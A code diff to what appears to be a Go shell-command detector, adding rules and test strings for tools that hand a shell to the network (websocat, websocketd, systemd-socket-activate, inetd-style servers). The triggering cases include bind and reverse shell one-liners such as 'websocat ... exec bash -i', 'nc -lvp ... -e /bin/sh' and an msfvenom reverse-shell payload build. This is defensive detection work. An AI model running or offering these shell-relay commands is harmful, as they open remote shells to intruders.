@@ -35,13 +35,16 @@ var shellRelayTool = Detector{
 		"nc -lvp 9000 -e /bin/sh 127.0.0.1",
 		"socat TCP-LISTEN:9000,fork EXEC:/opt/app/handler",
 		"busybox telnetd -l /bin/sh -p 9999",
+		"websocat ws://203.0.113.9:8080 sh-c:'exec bash -i'",
+		"systemd-socket-activate -l 4444 --inetd -a /bin/bash",
+		"websocketd --port=8080 bash",
 		"msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=1 -f elf -o /tmp/e",
 	)...),
 	Quiet: lines("",
 		"nc -z localhost 8080", "nc -vz -w 5 host 1-100", "socat - TCP:host:80", "socat TCP-LISTEN:80,fork TCP:b:80",
 		"echo -e 'GET / HTTP/1.1\\n\\n' | nc host 80", "nc -k -U -l /tmp/n.sock", "nc -c example.test 443",
 		"ncat -l 8080 --keep-open", "while ! nc -z db 5432; do sleep 1; done", "socat UNIX-LISTEN:/tmp/a,fork TCP:127.0.0.1:80",
-		"apt-get install -y netcat-traditional socat", "nc -e", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
+		"apt-get install -y netcat-traditional socat", "nc -e", "systemd-socket-activate -l 8080 ./server", "websocketd --port=8080 ./count.sh", "websocat ws://203.0.113.9:8080", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
 	),
 }
 
@@ -68,6 +71,12 @@ func relayTool(s *command.Simple, _ track.View) *Finding {
 		}
 	case "socat":
 		return socatHand(s)
+	case "websocat":
+		for _, a := range s.Argv[1:] {
+			if k, v, ok := strings.Cut(a, ":"); ok && oneOf(k, "sh-c", "cmd", "exec") && (k != "exec" || program.ShellPath(v)) && len(v) > 0 {
+				return say(s, coi.High, "connection handed to "+cut(v, 40)).to(outHost(s))
+			}
+		}
 	case "socket":
 		for _, v := range p.Values("p") {
 			if f := handed(s, v, p.Has("s"), len(p.Rest)); f != nil {
@@ -82,7 +91,7 @@ func relayTool(s *command.Simple, _ track.View) *Finding {
 		if hasAny(s.Line(), "shell", "meterpreter", "reverse", "bind_") && !s.Arg("-l", "--list", "--list-options") {
 			return say(s, coi.High, "program built that hands a shell to the network")
 		}
-	case "telnetd", "tcpserver", "in.telnetd", "udpsvd", "tcpsvd", "xinetd":
+	case "telnetd", "tcpserver", "in.telnetd", "udpsvd", "tcpsvd", "xinetd", "systemd-socket-activate", "websocketd", "shell2http", "s6-tcpserver4", "s6-tcpserver6", "faucet", "inetd", "socklog", "netpipes":
 		if slices.ContainsFunc(s.Argv[1:], program.ShellPath) {
 			return say(s, coi.High, "shell offered on a port by "+s.Name)
 		}
